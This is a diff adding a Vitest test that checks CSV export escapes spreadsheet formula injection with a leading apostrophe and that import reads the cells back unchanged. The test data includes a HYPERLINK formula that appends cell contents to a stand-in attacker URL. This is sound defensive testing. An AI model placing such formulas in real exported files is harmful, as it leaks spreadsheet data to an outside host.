@@ -1,3 +1,4 @@
+import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
 import { exportQuestions } from "./export.js";
 import { parseQuestionFile } from "./import.js";
@@ -67,6 +68,33 @@ describe("exportQuestions", () => {
     expect(exportQuestions(generated, "jsonl")).toBe(
       '{"question_type":"USER_DEFINED","question_text":"Q?","ground_truth":""}\n',
     );
+  });
+
+  it("writes CSV cells a spreadsheet would run as formulas with a leading apostrophe, and reads them back", () => {
+    const formulas: QuestionInput[] = [
+      {
+        question_type: "FACTUAL",
+        question_text: '=HYPERLINK("http://evil.example/?"&A1,"Click for the answer")',
+        ground_truth: "+1 metre",
+        reference_context: "-2 degrees, @noon",
+      },
+      { question_type: "USER_DEFINED", question_text: "@SUM(A1:A9)?", ground_truth: "-0.5" },
+      { question_type: "USER_DEFINED", question_text: "'=already marked?", ground_truth: "'tis" },
+    ];
+    const csv = exportQuestions(formulas, "csv");
+    const cells = parse(csv, { from_line: 2 }) as string[][];
+    expect(cells.map((row) => row.slice(1, 4))).toEqual([
+      [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"Click for the answer")',
+        "'+1 metre",
+        "'-2 degrees, @noon",
+      ],
+      ["'@SUM(A1:A9)?", "'-0.5", ""],
+      ["''=already marked?", "'tis", ""],
+    ]);
+    expect(parseQuestionFile(csv, "csv")).toEqual(formulas);
+    // JSON and JSONL are not opened by spreadsheets: their text stays as it is.
+    expect(exportQuestions(formulas, "jsonl")).toContain('"question_text":"=HYPERLINK(');
   });
 
   it("writes a header even for an empty set", () => {
